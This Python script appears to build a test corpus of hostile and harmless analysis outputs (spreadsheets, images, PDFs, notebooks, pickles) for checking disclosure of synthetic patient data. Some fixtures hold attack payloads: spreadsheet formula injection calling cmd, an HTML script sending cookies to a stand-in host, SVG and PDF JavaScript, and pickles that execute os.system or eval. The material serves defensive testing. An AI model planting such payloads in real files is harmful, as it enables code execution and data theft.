"""Hostile and harmless files by the tools people use, and by hand.

    python make.py OUTDIR      (then Rscript hostile.R OUTDIR, then pack.py OUTDIR corpus.zip)

Needs openpyxl, xlsxwriter, pandas, matplotlib, plotly, nbformat, scikit-learn, joblib, python-docx,
python-pptx, odfpy, reportlab, pikepdf, pillow, onnx, skl2onnx, safetensors; LibreOffice for some.
Every name, number and date in these files is made up.
"""
import base64, gzip, io, json, os, pickle, random, subprocess, sys, tarfile, zipfile, zlib
import numpy as np, pandas as pd, openpyxl, xlsxwriter, matplotlib
matplotlib.use("Agg")
import matplotlib.pyplot as plt, nbformat as nbf, joblib, docx, pptx, plotly.graph_objects as go, pikepdf
from PIL import Image, PngImagePlugin
from openpyxl.comments import Comment
from openpyxl.workbook.defined_name import DefinedName
from sklearn import linear_model, neighbors, svm, tree, ensemble, cluster, gaussian_process, pipeline, preprocessing
from reportlab.pdfgen import canvas

out = sys.argv[1]
for d in ("hostile", "harmless"):
    os.makedirs(f"{out}/{d}", exist_ok=True)
log = open(f"{out}/py.tsv", "w")
R = random.Random(7)
rng = np.random.default_rng(7)

def put(label, file, technique, tool, data=None):
    p = f"{out}/{label}/{file}"
    if data is not None:
        open(p, "wb").write(data if isinstance(data, bytes) else data.encode())
    log.write(f"{label}\t{file}\t{technique}\t{tool}\n")
    return p

def nhs():
    while True:
        d = [R.randrange(4, 8)] + [R.randrange(10) for _ in range(8)]
        c = 11 - sum(x * (10 - i) for i, x in enumerate(d)) % 11
        if c != 10:
            return "".join(map(str, d)) + str(0 if c == 11 else c)

def rows(n):
    return pd.DataFrame({"age": rng.integers(18, 95, n), "sex": rng.choice(["M", "F"], n), "diagnosis": rng.choice(["I21", "E11", "J44", "C50"], n), "sbp": rng.normal(130, 15, n).round(0)})

def summary(i):
    return pd.DataFrame({"Age band": ["18-39", "40-59", "60-79", "80+"], "n": [120 + 5 * i, 240, 310, 95], "Mean cost": [10.5 + i, 12.25, 14.75, 16.0], "Percent": [15.7, 31.4, 40.5, 12.4]})

GIVEN, SUR = ["Mary", "Florence", "Doris", "Edith", "Dorothy", "John", "William", "George", "Thomas", "James"], ["Smith", "Patel", "Williams", "Jones", "Brown", "Taylor", "Davies", "Evans", "Wilson", "Khan"]
POST = ["LS6 3AB", "M14 5RX", "SW1A 2AA", "B29 6QT", "NE4 5TG"]
def named(i): return f"{GIVEN[i % 10]} {SUR[(i * 3) % 10]}"

def book(i):
    wb = openpyxl.Workbook(); ws = wb.active; ws.title = "Summary"
    ws.append(list(summary(i).columns))
    for r in summary(i).itertuples(index=False): ws.append(list(r))
    return wb, ws
def save(wb):
    b = io.BytesIO(); wb.save(b); return b.getvalue()

def rezip(data, change=None, add=None):
    src = zipfile.ZipFile(io.BytesIO(data)); b = io.BytesIO(); z = zipfile.ZipFile(b, "w", zipfile.ZIP_DEFLATED)
    for n in src.namelist():
        d = src.read(n)
        if change and n in change: d = change[n](d)
        z.writestr(n, d)
    for n, d in (add or {}).items(): z.writestr(n, d)
    z.close(); return b.getvalue()

N = 5
for i in range(N):
    # --- tables ---
    put("hostile", f"rows{i}.csv", "csv-rows", "pandas", rows(40 + 10 * i).to_csv(index=False))
    put("hostile", f"rowsid{i}.csv", "csv-rows-key", "pandas", rows(20).assign(Patient_ID=[f"P{R.randrange(10**6):06d}" for _ in range(20)]).to_csv(index=False))
    put("hostile", f"lying{i}.csv", "csv-key-under-other-heading", "pandas", pd.DataFrame({"n": [f"K{R.randrange(10**8):08d}" for _ in range(15)], "mean": rng.normal(5, 1, 15).round(1)}).to_csv(index=False))
    put("hostile", f"nhs{i}.csv", "csv-nhs-number", "pandas", summary(i).assign(ref=[nhs() for _ in range(4)]).to_csv(index=False))
    put("hostile", f"nhsspace{i}.csv", "csv-nhs-number-spaced", "by hand", "note,n\n" + "".join(f"see {x[:3]} {x[3:6]} {x[6:]},100\n" for x in (nhs(), nhs())))
    put("hostile", f"post{i}.csv", "csv-postcode", "pandas", pd.DataFrame({"area": POST, "n": [100, 200, 300, 400, 500]}).to_csv(index=False))
    put("hostile", f"names{i}.csv", "csv-names", "pandas", pd.DataFrame({"label": [named(k) for k in range(8)], "n": range(100, 180, 10)}).to_csv(index=False))
    put("hostile", f"dob{i}.csv", "csv-birth-dates", "pandas", pd.DataFrame({"d": [f"{R.randrange(1930, 2000)}-{R.randrange(1, 13):02d}-{R.randrange(1, 29):02d}" for _ in range(12)], "n": range(100, 220, 10)}).to_csv(index=False))
    put("hostile", f"mail{i}.csv", "csv-contact", "pandas", pd.DataFrame({"label": [f"{GIVEN[k].lower()}@example.org" for k in range(4)], "n": [100, 200, 300, 400]}).to_csv(index=False))
    put("hostile", f"formula{i}.csv", "csv-formula", "by hand", "label,n\n" + ['=HYPERLINK("http://x/?"&A1)', "=cmd|' /C calc'!A0", "@SUM(1+1)", '+WEBSERVICE("http://x")', "-1+cmd|'/c x'!A1"][i] .replace('"', '""').join(['"', '"']) + ",100\nb,200\n")
    put("hostile", f"zero{i}.csv", "csv-zero-width", "by hand", f"label,n\nnor{chr(0x200b)}th{chr(0x200c) * (i + 1)},100\nsouth,200\n")
    put("hostile", f"homo{i}.csv", "csv-homoglyph", "by hand", f"label,n\nN{chr(0x43e)}rth,100\nS{chr(0x43e)}uth,200\n")
    put("hostile", f"bidi{i}.csv", "csv-bidi", "by hand", f"label,n\nabc{chr(0x202e)}txt,100\nsouth,200\n")
    put("hostile", f"b64{i}.csv", "csv-encoded-label", "by hand", "label,n\n" + base64.b64encode(f"72,M,I21,2023-0{i + 1}-04,LS6".encode()).decode() + ",100\nsouth,200\n")
    put("hostile", f"hex{i}.csv", "csv-hex-label", "by hand", "label,n\n" + f"Mary Smith 72 I2{i} died".encode().hex() + ",100\nsouth,200\n")
    put("hostile", f"spaces{i}.csv", "csv-trailing-spaces", "by hand", "label,n\n" + "".join(f"area {k},{100 + k}" + " " * R.randrange(1, 5) + "\n" for k in range(20)))
    put("hostile", f"rows{i}.parquet", "parquet-rows", "pyarrow", (lambda b: (rows(30).to_parquet(b), b.getvalue())[1])(io.BytesIO()))
    put("hostile", f"prow{i}.json", "json-rows", "pandas", rows(30).to_json(orient="records"))
    put("hostile", f"split{i}.json", "json-columns", "pandas", rows(30).to_json())
    put("hostile", f"long{i}.json", "json-long-list", "by hand", json.dumps({"n": 5, "values": [R.randrange(20, 95) for _ in range(600 + i)]}))
    put("harmless", f"summary{i}p.csv", "csv-summary", "pandas", summary(i).to_csv(index=False))
    put("harmless", f"wide{i}.csv", "csv-crosstab", "pandas", pd.DataFrame(rng.integers(20, 200, (6, 4)) * 5, index=["North", "South", "East", "West", "Central", "Total"], columns=["2019", "2020", "2021", "2022"]).rename_axis("Region").to_csv())
    put("harmless", f"describe{i}.csv", "csv-describe", "pandas", rows(300).describe().round(2).rename_axis("statistic").to_csv())
    put("harmless", f"or{i}.csv", "csv-odds-ratios", "by hand", "term,OR,lower,upper,p\nage,1.03,1.01,1.05,0.002\nsex male,1.2,0.9,1.6,0.21\nBMI,1.08,1.02,1.14,0.01\n")
    put("harmless", f"month{i}.csv", "csv-time-series", "pandas", pd.DataFrame({"month": pd.date_range("2019-01-01", periods=36, freq="MS").strftime("%Y-%m"), "admissions": rng.integers(50, 200, 36) * 5}).to_csv(index=False))
    put("harmless", f"lad{i}.csv", "csv-area-codes", "pandas", pd.DataFrame({"area_code": [f"E0{6000000 + k}" for k in range(12)], "area": [f"District {k}" for k in range(12)], "n": rng.integers(50, 200, 12) * 5, "rate per 1,000": rng.normal(50, 5, 12).round(1)}).to_csv(index=False))
    put("harmless", f"roc{i}.csv", "csv-curve", "pandas", pd.DataFrame({"fpr": np.linspace(0, 1, 21).round(3), "tpr": (np.linspace(0, 1, 21) ** .5).round(3)}).to_csv(index=False))
    put("harmless", f"sum{i}.parquet", "parquet-summary", "pyarrow", (lambda b: (summary(i).to_parquet(b), b.getvalue())[1])(io.BytesIO()))
    put("harmless", f"metrics{i}.json", "json-metrics", "python", json.dumps({"auc": 0.81, "brier": 0.12, "n_train": 12000 + i, "confusion": [[900, 120], [80, 400]]}, indent=1))
    put("harmless", f"srec{i}.json", "json-summary-records", "pandas", summary(i).to_json(orient="records"))
    # --- workbooks ---
    wb, ws = book(i); wb.create_sheet("x").append(["secret", i]); wb["x"].sheet_state = "hidden"; put("hostile", f"hidden{i}.xlsx", "xlsx-hidden-sheet", "openpyxl", save(wb))
    wb, ws = book(i); h = wb.create_sheet("x"); [h.append(list(r)) for r in rows(30).itertuples(index=False)]; h.sheet_state = "veryHidden"; put("hostile", f"very{i}.xlsx", "xlsx-very-hidden-sheet", "openpyxl", save(wb))
    wb, ws = book(i); ws.row_dimensions[3].hidden = True; put("hostile", f"hrow{i}.xlsx", "xlsx-hidden-row", "openpyxl", save(wb))
    wb, ws = book(i); ws.column_dimensions["C"].hidden = True; put("hostile", f"hcol{i}.xlsx", "xlsx-hidden-column", "openpyxl", save(wb))
    wb, ws = book(i); ws["B2"].comment = Comment(f"this is {named(i)}", "a"); put("hostile", f"comment{i}.xlsx", "xlsx-comment", "openpyxl", save(wb))
    wb, ws = book(i); wb.defined_names["d"] = DefinedName("d", attr_text='"72,M,I21;65,F,E11"', hidden=True); put("hostile", f"name{i}.xlsx", "xlsx-defined-name", "openpyxl", save(wb))
    wb, ws = book(i); ws["G2"] = "hidden text"; ws["G2"].font = openpyxl.styles.Font(color="FFFFFFFF"); put("hostile", f"white{i}.xlsx", "xlsx-white-text", "openpyxl", save(wb))
    wb, ws = book(i); ws["G2"] = 72; ws["G2"].number_format = ";;;"; put("hostile", f"fmt{i}.xlsx", "xlsx-invisible-format", "openpyxl", save(wb))
    wb, ws = book(i); ws["XFD1048576" if i % 2 else "ZZ5000"] = "far"; put("hostile", f"far{i}.xlsx", "xlsx-far-cell", "openpyxl", save(wb))
    wb, ws = book(i); ws["F2"] = ['=WEBSERVICE("http://x/"&B2)', "=[1]Sheet1!A1", '=HYPERLINK("http://x/?"&B2,"x")', "=cmd|'/c calc'!A1", '=IMPORTDATA("http://x")'][i]; put("hostile", f"wf{i}.xlsx", "xlsx-formula-outside", "openpyxl", save(wb))
    wb, ws = book(i); ws.merge_cells("F2:G4"); d = save(wb); put("hostile", f"merge{i}.xlsx", "xlsx-under-merge", "openpyxl, by hand", rezip(d, {"xl/worksheets/sheet1.xml": lambda x: x.replace(b'</row><row r="3"', b'<c r="G2" t="inlineStr"><is><t>72 M I21</t></is></c></row><row r="3"', 1)}))
    put("hostile", f"cache{i}.xlsx", "xlsx-pivot-cache", "openpyxl, by hand", rezip(save(book(i)[0]), add={"xl/pivotCache/pivotCacheDefinition1.xml": "<pivotCacheDefinition/>", "xl/pivotCache/pivotCacheRecords1.xml": "<pivotCacheRecords><r><n v='72'/></r></pivotCacheRecords>"}))
    put("hostile", f"macro{i}.xlsx", "xlsx-macro", "openpyxl, by hand", rezip(save(book(i)[0]), add={"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + os.urandom(64)}))
    put("hostile", f"ext{i}.xlsx", "xlsx-external-link", "openpyxl, by hand", rezip(save(book(i)[0]), add={"xl/externalLinks/externalLink1.xml": "<externalLink/>"}))
    put("hostile", f"custom{i}.xlsx", "xlsx-unknown-part", "openpyxl, by hand", rezip(save(book(i)[0]), add={"customXml/item1.xml": rows(5).to_xml() if hasattr(pd.DataFrame, "to_xml") and False else "<r>72,M</r>"}))
    b = io.BytesIO(); summary(i).to_excel(b, index=False, engine="xlsxwriter"); put("hostile", f"strings{i}.xlsx", "xlsx-unused-strings", "xlsxwriter, by hand", rezip(b.getvalue(), {"xl/sharedStrings.xml": lambda x: x.replace(b"</sst>", b"<si><t>Mary Smith 72</t></si></sst>")}))
    put("hostile", f"prop{i}.xlsx", "xlsx-properties", "openpyxl", (lambda wb: (setattr(wb.properties, "description", ",".join(map(str, rng.integers(18, 95, 80)))), save(wb))[1])(book(i)[0]))
    wb, ws = book(i); [ws.append(list(r)) for r in rows(60).itertuples(index=False)]; put("hostile", f"xrows{i}.xlsx", "xlsx-rows-below", "openpyxl", save(wb))
    b = io.BytesIO(); rows(50).to_excel(b, index=False); put("hostile", f"pdrows{i}.xlsx", "xlsx-rows", "pandas", b.getvalue())
    b = io.BytesIO(); w = xlsxwriter.Workbook(b); s = w.add_worksheet("S"); s.write_row(0, 0, ["group", "n"]); s.write_row(1, 0, ["a", 100]); h = w.add_worksheet("d"); [h.write_row(k, 0, [k, R.random()]) for k in range(30)]; h.very_hidden(); c = w.add_chart({"type": "scatter"}); c.add_series({"categories": "=d!$A$1:$A$30", "values": "=d!$B$1:$B$30"}); s.insert_chart("D2", c); w.close(); put("hostile", f"chart{i}.xlsx", "xlsx-chart-hidden-data", "xlsxwriter", b.getvalue())
    put("harmless", f"book{i}.xlsx", "xlsx-summary", "openpyxl", save(book(i)[0]))
    b = io.BytesIO(); summary(i).to_excel(b, index=False); put("harmless", f"pd{i}.xlsx", "xlsx-summary", "pandas", b.getvalue())
    b = io.BytesIO(); w = xlsxwriter.Workbook(b); f = w.add_format({"bold": True, "bg_color": "#1F4E78", "font_color": "white"}); s = w.add_worksheet("Table 1"); s.write_row(0, 0, list(summary(i).columns), f); [s.write_row(k + 1, 0, list(r)) for k, r in enumerate(summary(i).itertuples(index=False))]; s.autofilter(0, 0, 4, 3); s.freeze_panes(1, 0); w.close(); put("harmless", f"styled{i}.xlsx", "xlsx-styled", "xlsxwriter", b.getvalue())
    b = io.BytesIO(); w = xlsxwriter.Workbook(b); s = w.add_worksheet("T"); s.write_row(0, 0, ["group", "n"]); [s.write_row(k + 1, 0, [g, 100 + k * 50]) for k, g in enumerate("abcd")]; c = w.add_chart({"type": "column"}); c.add_series({"categories": "=T!$A$2:$A$5", "values": "=T!$B$2:$B$5"}); s.insert_chart("D2", c); w.close(); put("harmless", f"chart{i}.xlsx", "xlsx-chart", "xlsxwriter", b.getvalue())
    # --- pictures ---
    fig, ax = plt.subplots(figsize=(3, 2)); ax.bar(["a", "b", "c"], [100, 200 + i, 300]); ax.set_title("People")
    def pic(fmt, **k): b = io.BytesIO(); fig.savefig(b, format=fmt, **k); return b.getvalue()
    png, svg, pdf = pic("png"), pic("svg"), pic("pdf")
    put("harmless", f"mpl{i}.png", "png-bar", "matplotlib", png); put("harmless", f"mpl{i}.svg", "svg-bar", "matplotlib", svg); put("harmless", f"mpl{i}.pdf", "pdf-bar", "matplotlib", pdf); put("harmless", f"mpl{i}.jpg", "jpeg-bar", "matplotlib", pic("jpg"))
    put("harmless", f"mplt{i}.png", "png-transparent", "matplotlib", pic("png", transparent=True))
    plt.close(fig)
    fig, ax = plt.subplots(figsize=(3, 2)); ax.plot(range(20), np.cumprod(np.full(20, .97))); ax.fill_between(range(20), 0, np.cumprod(np.full(20, .95)), alpha=.3); put("harmless", f"line{i}.svg", "svg-lines", "matplotlib", pic("svg")); put("harmless", f"line{i}.png", "png-lines", "matplotlib", pic("png")); put("harmless", f"line{i}.pdf", "pdf-lines", "matplotlib", pic("pdf")); plt.close(fig)
    fig, ax = plt.subplots(); ax.scatter(rng.normal(size=200 + i), rng.normal(size=200 + i)); put("hostile", f"sc{i}.svg", "svg-scatter-points", "matplotlib", pic("svg")); put("hostile", f"sc{i}.pdf", "pdf-scatter-points", "matplotlib", pic("pdf")); plt.close(fig)
    put("hostile", f"trail{i}.png", "png-after-end", "matplotlib, by hand", png + rows(10).to_csv().encode())
    put("hostile", f"poly{i}.png", "png-zip-polyglot", "matplotlib, by hand", png + rezip(save(book(i)[0])))
    m = PngImagePlugin.PngInfo(); m.add_text("Comment", rows(30).to_csv()); b = io.BytesIO(); Image.open(io.BytesIO(png)).save(b, "png", pnginfo=m); put("hostile", f"text{i}.png", "png-text-chunk", "Pillow", b.getvalue())
    m = PngImagePlugin.PngInfo(); m.add_itxt("data", rows(30).to_csv(), zip=True); b = io.BytesIO(); Image.open(io.BytesIO(png)).save(b, "png", pnginfo=m); put("hostile", f"itxt{i}.png", "png-itxt-chunk", "Pillow", b.getvalue())
    def chunk(k, d): return len(d).to_bytes(4, "big") + k + d + zlib.crc32(k + d).to_bytes(4, "big")
    put("hostile", f"chunk{i}.png", "png-private-chunk", "by hand", png[:33] + chunk(b"raWs", rows(10).to_csv().encode()) + png[33:])
    a = np.array(Image.open(io.BytesIO(png)).convert("RGB")); bits = np.unpackbits(np.frombuffer(rows(60).to_csv().encode(), np.uint8)); flat = a.reshape(-1); flat[:len(bits)] = (flat[:len(bits)] & 254) | bits; b = io.BytesIO(); Image.fromarray(a).save(b, "png"); put("hostile", f"lsb{i}.png", "png-low-bits", "Pillow", b.getvalue())
    pal = Image.open(io.BytesIO(png)).convert("P", palette=Image.ADAPTIVE, colors=16); p = pal.getpalette()[:48] + [R.randrange(256) for _ in range(720)]; pal.putpalette(p); b = io.BytesIO(); pal.save(b, "png"); put("hostile", f"pal{i}.png", "png-palette", "Pillow", b.getvalue())
    jpg = io.BytesIO(); Image.open(io.BytesIO(png)).convert("RGB").save(jpg, "jpeg"); put("hostile", f"trail{i}.jpg", "jpeg-after-end", "Pillow, by hand", jpg.getvalue() + rows(10).to_csv().encode())
    jpg = io.BytesIO(); Image.open(io.BytesIO(png)).convert("RGB").save(jpg, "jpeg", comment=rows(20).to_csv()); put("hostile", f"com{i}.jpg", "jpeg-comment", "Pillow", jpg.getvalue())
    ex = Image.Exif(); ex[0x9286] = rows(30).to_csv(); jpg = io.BytesIO(); Image.open(io.BytesIO(png)).convert("RGB").save(jpg, "jpeg", exif=ex); put("hostile", f"exif{i}.jpg", "jpeg-exif", "Pillow", jpg.getvalue())
    s = svg.decode()
    put("hostile", f"script{i}.svg", "svg-script", "matplotlib, by hand", s.replace("</svg>", "<script>fetch('http://x')</script></svg>"))
    put("hostile", f"on{i}.svg", "svg-event", "matplotlib, by hand", s.replace("<svg ", "<svg onload='alert(1)' ", 1))
    put("hostile", f"out{i}.svg", "svg-outside", "matplotlib, by hand", s.replace("</svg>", "<image xlink:href='http://x/?72M'/></svg>"))
    put("hostile", f"invis{i}.svg", "svg-hidden-text", "matplotlib, by hand", s.replace("</svg>", "<text x='1' y='1' display='none'>72,M,I21</text></svg>"))
    put("hostile", f"foreign{i}.svg", "svg-foreign", "matplotlib, by hand", s.replace("</svg>", "<foreignObject><p>72,M</p></foreignObject></svg>"))
    put("hostile", f"entity{i}.svg", "svg-entity", "by hand", '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "72,M">]><svg xmlns="http://www.w3.org/2000/svg"><text>&a;</text></svg>')
    # --- pages ---
    fig = go.Figure(go.Scatter(x=rng.normal(size=300), y=rng.normal(size=300), mode="markers"))
    put("hostile", f"plotly{i}.html", "html-plotly-points", "plotly", fig.to_html(include_plotlyjs="cdn"))
    fig = go.Figure(go.Bar(x=["a", "b", "c"], y=[100, 200, 300 + i]))
    put("harmless", f"plotly{i}.html", "html-plotly-bar", "plotly", fig.to_html(include_plotlyjs="cdn"))
    put("harmless", f"table{i}.html", "html-table", "pandas", "<html><body>" + summary(i).to_html(index=False) + "</body></html>")
    put("hostile", f"rows{i}.html", "html-rows", "pandas", "<html><body>" + rows(50).to_html() + "</body></html>")
    put("hostile", f"js{i}.html", "html-script-reaches-out", "by hand", "<html><body><h1>Results</h1><script>fetch('http://x/?'+document.cookie)</script></body></html>")
    put("hostile", f"hide{i}.html", "html-hidden", "by hand", "<html><body><h1>Results</h1><div style='display:none'>" + rows(10).to_csv() + "</div></body></html>")
    put("hostile", f"note{i}.html", "html-comment", "by hand", "<html><body><h1>Results</h1><!--" + rows(30).to_csv() + "--></body></html>")
    put("hostile", f"frame{i}.html", "html-frame", "by hand", "<html><body><iframe src='http://x'></iframe></body></html>")
    def newpdf(draw): b = io.BytesIO(); c = canvas.Canvas(b); draw(c); c.save(); return b.getvalue()
    plain = newpdf(lambda c: c.drawString(72, 700, "Results: mean 12.3, n = 1,200"))
    put("harmless", f"rl{i}.pdf", "pdf-text", "reportlab", plain)
    def alter(f): q = pikepdf.open(io.BytesIO(plain)); f(q); b = io.BytesIO(); q.save(b); return b.getvalue()
    put("hostile", f"att{i}.pdf", "pdf-attachment", "pikepdf", alter(lambda q: q.attachments.__setitem__("r.csv", rows(20).to_csv().encode())))
    put("hostile", f"js{i}.pdf", "pdf-javascript", "pikepdf", alter(lambda q: q.Root.__setitem__("/OpenAction", pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert(1)")))))
    put("hostile", f"annot{i}.pdf", "pdf-comment", "pikepdf", alter(lambda q: q.pages[0].__setitem__("/Annots", q.make_indirect(pikepdf.Array([pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Text, Rect=[0, 0, 10, 10], Contents=pikepdf.String("Mary Smith"))])))))
    b = io.BytesIO(); pikepdf.open(io.BytesIO(plain)).save(b, encryption=pikepdf.Encryption(owner="a", user="b")); put("hostile", f"enc{i}.pdf", "pdf-encrypted", "pikepdf", b.getvalue())
    put("hostile", f"incr{i}.pdf", "pdf-earlier-version", "by hand", plain + b"\n4 0 obj\n<< /X 1 >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n")
    put("hostile", f"trail{i}.pdf", "pdf-after-end", "by hand", plain + rows(20).to_csv().encode())
    put("hostile", f"inv{i}.pdf", "pdf-invisible-text", "reportlab", newpdf(lambda c: (c.drawString(72, 700, "Results"), (lambda t: (t.setTextRenderMode(3), t.textLine("72,M,I21 65,F,E11"), c.drawText(t)))(c.beginText(72, 600)))))
    put("hostile", f"nhs{i}.pdf", "pdf-nhs-number", "reportlab", newpdf(lambda c: c.drawString(72, 700, "Patient " + nhs())))
    put("hostile", f"form{i}.pdf", "pdf-form", "pikepdf", alter(lambda q: q.Root.__setitem__("/AcroForm", q.make_indirect(pikepdf.Dictionary(Fields=pikepdf.Array([pikepdf.Dictionary(FT=pikepdf.Name.Tx, T=pikepdf.String("f"), V=pikepdf.String("72,M"))]))))))
    d = docx.Document(); d.add_heading("Results"); d.add_paragraph("The mean was 12.3 in 1,200 people."); b = io.BytesIO(); d.save(b); dd = b.getvalue(); put("harmless", f"doc{i}.docx", "docx-text", "python-docx", dd)
    put("hostile", f"vanish{i}.docx", "docx-hidden-text", "python-docx", (lambda d, b: (setattr(d.add_paragraph().add_run("72,M,I21").font, "hidden", True), d.save(b), b.getvalue())[2])(docx.Document(), io.BytesIO()))
    put("hostile", f"emb{i}.docx", "docx-embedded-workbook", "python-docx, by hand", rezip(dd, add={"word/embeddings/Microsoft_Excel_Sheet1.xlsx": save(book(i)[0])}))
    put("hostile", f"com{i}.docx", "docx-comments", "python-docx, by hand", rezip(dd, add={"word/comments.xml": "<w:comments xmlns:w='x'><w:comment>Mary</w:comment></w:comments>"}))
    put("hostile", f"chg{i}.docx", "docx-tracked-changes", "python-docx, by hand", rezip(dd, {"word/document.xml": lambda x: x.replace(b"<w:sectPr", b'<w:p><w:del w:author="a" w:date="2024-01-01T00:00:00Z"><w:r><w:delText>72 M</w:delText></w:r></w:del></w:p><w:sectPr', 1)}))
    put("hostile", f"mac{i}.docx", "docx-macro", "python-docx, by hand", rezip(dd, add={"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}))
    q = pptx.Presentation(); sl = q.slides.add_slide(q.slide_layouts[5]); sl.shapes.title.text = "Results"; b = io.BytesIO(); q.save(b); put("harmless", f"deck{i}.pptx", "pptx-title", "python-pptx", b.getvalue())
    from pptx.chart.data import CategoryChartData; from pptx.enum.chart import XL_CHART_TYPE; from pptx.util import Inches
    cd = CategoryChartData(); cd.categories = list("abc"); cd.add_series("n", (1, 2, 3)); sl.shapes.add_chart(XL_CHART_TYPE.COLUMN_CLUSTERED, Inches(1), Inches(1), Inches(4), Inches(3), cd); b = io.BytesIO(); q.save(b); put("hostile", f"chart{i}.pptx", "pptx-embedded-workbook", "python-pptx", b.getvalue())
    q = pptx.Presentation(); sl = q.slides.add_slide(q.slide_layouts[5]); sl.shapes.title.text = "Results"; sl.notes_slide.notes_text_frame.text = "Mary Smith 72"; b = io.BytesIO(); q.save(b); put("hostile", f"notes{i}.pptx", "pptx-notes", "python-pptx", b.getvalue())
    # --- notebooks, code, text ---
    def nb(*cells): n = nbf.v4.new_notebook(); n.cells = list(cells); n.metadata = {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}, "language_info": {"name": "python", "version": "3.11.2"}}; return n
    C, M = nbf.v4.new_code_cell, nbf.v4.new_markdown_cell
    put("harmless", f"nb{i}.ipynb", "ipynb-no-outputs", "nbformat", nbf.writes(nb(M("# Analysis"), C("import pandas as pd\ndf = pd.read_csv('extract.csv')\nprint(len(df))"))))
    c = C("df.head()"); c.outputs = [nbf.v4.new_output("execute_result", {"text/plain": str(rows(5)), "text/html": rows(5).to_html()})]; put("hostile", f"out{i}.ipynb", "ipynb-output", "nbformat", nbf.writes(nb(c)))
    c = C("print(df)"); c.outputs = [nbf.v4.new_output("stream", text=str(rows(20)))]; put("hostile", f"str{i}.ipynb", "ipynb-stream", "nbformat", nbf.writes(nb(c)))
    c = C("f()"); c.outputs = [nbf.v4.new_output("error", ename="KeyError", evalue=f"'{nhs()}'", traceback=["x"])]; put("hostile", f"err{i}.ipynb", "ipynb-error", "nbformat", nbf.writes(nb(c)))
    n = nb(M("x")); n.cells[0]["attachments"] = {"a.png": {"image/png": base64.b64encode(png).decode()}}; put("hostile", f"att{i}.ipynb", "ipynb-attachment", "nbformat", nbf.writes(n))
    n = nb(C("1")); n.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {"state": {"a": {"value": rows(9).to_csv()}}}}; put("hostile", f"wid{i}.ipynb", "ipynb-widgets", "nbformat", nbf.writes(n))
    n = nb(C("1")); n.metadata["data"] = rows(30).to_csv(); put("hostile", f"meta{i}.ipynb", "ipynb-metadata", "nbformat", nbf.writes(n))
    put("harmless", f"an{i}.py", "code-python", "by hand", "import pandas as pd\nfrom lifelines import CoxPHFitter\n\ndf = pd.read_csv('extract.csv')\nprint(df.groupby('band').size())\n")
    put("harmless", f"q{i}.sql", "code-sql", "by hand", "SELECT band, count(DISTINCT person) AS n\nFROM admissions WHERE year >= 2019\nGROUP BY band HAVING count(DISTINCT person) >= 10;\n")
    put("harmless", f"notes{i}.md", "markdown", "by hand", "# Methods\n\nWe fitted a Cox model with age and sex.\n\n| term | HR |\n|---|---|\n| age | 1.03 |\n")
    put("harmless", f"run{i}.log", "log", "by hand", "".join(f"2024-03-01 10:{k:02d}:00 INFO fitted model {k} of 30 in 1.{k} s\n" for k in range(30)))
    put("harmless", f"read{i}.txt", "text", "by hand", "Results of the analysis.\nThe mean age band was 40 to 59. No one is named here.\n")
    put("harmless", f"conf{i}.yaml", "yaml", "by hand", "model: cox\ncovariates: [age_band, sex, imd]\nseed: 7\n")
    put("hostile", f"lit{i}.py", "code-literals", "by hand", "data = [\n" + "".join(f"    ({a}, '{s}', '{d}', {int(b)}),\n" for a, s, d, b in rows(80).itertuples(index=False)) + "]\n")
    put("hostile", f"heredoc{i}.py", "code-table-in-string", "by hand", "csv = '''\n" + rows(60).to_csv() + "'''\n")
    put("hostile", f"pr{i}.log", "log-rows", "pandas", rows(40).to_string())
    put("hostile", f"tb{i}.log", "log-traceback", "python", f"Traceback (most recent call last):\n  File \"a.py\", line 3, in <module>\nValueError: could not convert ['72', 'M', 'I21', '{nhs()}'] to float\n")
    put("hostile", f"id{i}.md", "markdown-identifiers", "by hand", f"# Notes\n\nThe outlier is {nhs()} at LS6 3AB and M14 5RX.\n")
    # --- models ---
    X, y = rng.normal(size=(120, 4)), rng.integers(0, 2, 120)
    fits = {"knn": neighbors.KNeighborsClassifier(), "svc": svm.SVC(), "tree": tree.DecisionTreeClassifier(), "forest": ensemble.RandomForestClassifier(5), "dbscan": cluster.DBSCAN(), "gp": gaussian_process.GaussianProcessRegressor()}
    for k, m in fits.items():
        m.fit(X, y); put("hostile", f"{k}{i}.pkl", f"pickle-{k}", "scikit-learn", pickle.dumps(m))
        b = io.BytesIO(); joblib.dump(m, b, compress=3 if i % 2 else 0); put("hostile", f"{k}{i}.joblib", f"joblib-{k}", "scikit-learn", b.getvalue())
    good = {"logit": linear_model.LogisticRegression(), "lin": linear_model.LinearRegression(), "pipe": pipeline.make_pipeline(preprocessing.StandardScaler(), linear_model.LogisticRegression()), "dt": tree.DecisionTreeClassifier(max_depth=2, min_samples_leaf=20), "lasso": linear_model.Lasso(.1)}
    for k, m in good.items():
        m.fit(X, y); put("harmless", f"{k}{i}.pkl", f"pickle-{k}", "scikit-learn", pickle.dumps(m))
        b = io.BytesIO(); joblib.dump(m, b, compress=3 if i % 2 else 0); put("harmless", f"{k}{i}.joblib", f"joblib-{k}", "scikit-learn", b.getvalue())
    put("hostile", f"df{i}.pkl", "pickle-data-frame", "pandas", pickle.dumps(rows(50)))
    class E:
        def __reduce__(self): return (os.system, ("true",))
    put("hostile", f"exec{i}.pkl", "pickle-executes", "python", pickle.dumps(E(), protocol=i))
    put("hostile", f"eval{i}.pkl", "pickle-eval", "by hand", b"cbuiltins\neval\n(S'1+1'\ntR.")
    put("hostile", f"arr{i}.pkl", "pickle-array", "numpy", pickle.dumps({"coef": X}))
    put("harmless", f"dict{i}.pkl", "pickle-results", "python", pickle.dumps({"auc": .8, "coef": [1.0, 2.0], "n": 1200}))
    from skl2onnx import to_onnx
    put("harmless", f"logit{i}.onnx", "onnx-logit", "skl2onnx", to_onnx(good["logit"], X[:1].astype(np.float32)).SerializeToString())
    put("hostile", f"knn{i}.onnx", "onnx-knn", "skl2onnx", to_onnx(fits["knn"], X[:1].astype(np.float32)).SerializeToString())
    put("hostile", f"svc{i}.onnx", "onnx-svm", "skl2onnx", to_onnx(fits["svc"], X[:1].astype(np.float32)).SerializeToString())
